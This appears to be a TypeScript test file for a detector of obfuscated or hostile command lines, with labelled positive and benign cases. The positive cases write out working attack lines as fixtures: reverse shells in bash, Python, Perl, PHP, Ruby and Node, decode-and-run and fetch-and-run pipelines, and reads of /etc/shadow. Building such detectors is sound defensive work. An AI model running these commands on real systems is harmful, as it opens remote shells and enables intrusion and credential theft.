import assert from 'node:assert/strict';
import { test } from 'node:test';
import { applet, ruleCases, running } from './cases.fixture.ts';
import { commandLineObfuscated } from './command-line.ts';
import { judged } from './tables.fixture.ts';

const sh = (text: string) => ({ processes: [applet(['sh', '-c', text])] });
const python = (text: string) => ({ processes: [running(['python3', '-c', text], { path: '/usr/bin/python3.12' })] });
const other = (program: string, option: string, text: string) => ({ processes: [running([program, option, text])] });
const script = Buffer.from('#!/bin/sh\n'.padEnd(300, 'curl http://x | sh\n')).toString('base64');

ruleCases(
  commandLineObfuscated,
  {
    'text that is decoded and run': {
      rows: sh('echo d2hpbGU= | base64 -d | sh'),
      severity: 'high',
      says: /decodes text and runs it/,
    },
    'the same without blanks, as from Java': { rows: sh('{echo,d2hpbGU=}|{base64,-d}|{bash,-i}'), severity: 'high' },
    'other ways to decode': { rows: sh('echo 6964 | xxd -r -p | bash'), severity: 'high' },
    'eval of what is decoded': { rows: sh('eval "$(echo aWQ= | base64 --decode)"'), severity: 'high' },
    'a shell over /dev/tcp': {
      rows: sh('bash -i >& /dev/tcp/203.0.113.7/4443 0>&1'),
      severity: 'critical',
      says: /dev\/tcp/,
    },
    'what is fetched and run': { rows: sh('curl -fsSL https://x.example/i.sh | bash -s -- -y'), severity: 'medium' },
    'what is fetched into a scratch folder and run': {
      rows: sh('wget -q -O /tmp/a http://x.example/a && chmod +x /tmp/a && /tmp/a'),
      severity: 'medium',
    },
    'words in pieces': { rows: sh('cat$IFS/etc/passwd$IFS/etc/shadow'), severity: 'medium' },
    'words as numbers': { rows: sh(String.raw`$(printf '\x63\x75\x72\x6c\x20\x78\x20\x7c') x`), severity: 'medium' },
    'Python with a connection': {
      rows: python(
        'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.7",1));os.dup2(s.fileno(),0);pty.spawn("sh")',
      ),
      severity: 'critical',
    },
    'Python that decodes': { rows: python("exec(__import__('base64').b64decode('aW1wb3J0'))"), severity: 'high' },
    'Perl, PHP, Ruby and Node.js with connections': {
      rows: {
        processes: [
          ...other('perl', '-e', 'use Socket;$i="h";socket(S,PF_INET,SOCK_STREAM,0);connect(S,x);exec("/bin/sh -i");')
            .processes,
          ...other('php', '-r', '$s=fsockopen("h",1);exec("/bin/sh -i <&3 >&3");').processes,
          ...other('ruby', '-e', 'f=TCPSocket.open("h",1).to_i;exec sprintf("/bin/sh")').processes,
          ...other('node', '-e', "c=require('net').connect(1,'h');require('child_process').spawn('sh')").processes,
        ],
      },
      severity: ['critical', 'critical', 'critical', 'critical'],
    },
    'a long encoded script': {
      rows: sh(`X='${script}'; run "$X"`),
      severity: 'high',
      says: /a script as encoded text/,
    },
  },
  {
    'ordinary loops and entry points': sh('set -e; while :; do rm -f /tmp/upload-*; sleep 30; done; exec "$@"'),
    'a wait for a port': sh('until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done'),
    'a health check': sh('curl -fsS http://localhost:8080/healthz || exit 1'),
    'decoding into a file': sh('echo "$CERT" | base64 -d > /etc/ssl/cert.pem && exec nginx'),
    unpacking: sh('gunzip -c dump.sql.gz | psql shop'),
    'a fetch into a folder': sh('wget -O /usr/local/bin/x https://x.example/x && chmod +x /usr/local/bin/x'),
    'who looks for it': { processes: [running(['grep', '-r', 'base64 -d | sh', '/var/log'])] },
    'Python that serves': python(
      'from http.server import *; HTTPServer(("",80),SimpleHTTPRequestHandler).serve_forever()',
    ),
    'Python that connects': python('import socket; socket.create_connection(("db", 5432), 3)'),
    'a script by its name': { processes: [running(['python3', 'exec(b64decode.py', 'x'])] },
    'a key on the command line': sh(`export KEY='${'QUJD'.repeat(100)}'; exec app`),
  },
);

test('a hostile command line takes no time', () => {
  const pieces = [
    ...[
      'socket connect ',
      'Socket connect(',
      'exec(',
      'eval exec(',
      '$IFS',
      "a''",
      'base64 -d ',
      'curl -o /tmp/a ',
      'sh -c ',
    ],
    ...[
      'eval "$(base64 ',
      'x=ab;',
      '\\x41',
      '>/dev/tcp/a/1 ',
      'exec 3<>/dev/tcp/',
      '<(curl ',
      'openssl enc ',
      'source ',
    ],
  ];
  const started = performance.now();
  for (const piece of pieces) {
    const text = piece.repeat(Math.ceil(32_000 / piece.length));
    judged(commandLineObfuscated, sh(text));
    judged(commandLineObfuscated, python(text));
  }
  const each = (performance.now() - started) / pieces.length;
  assert.ok(each < 500, `${each} ms each`);
});
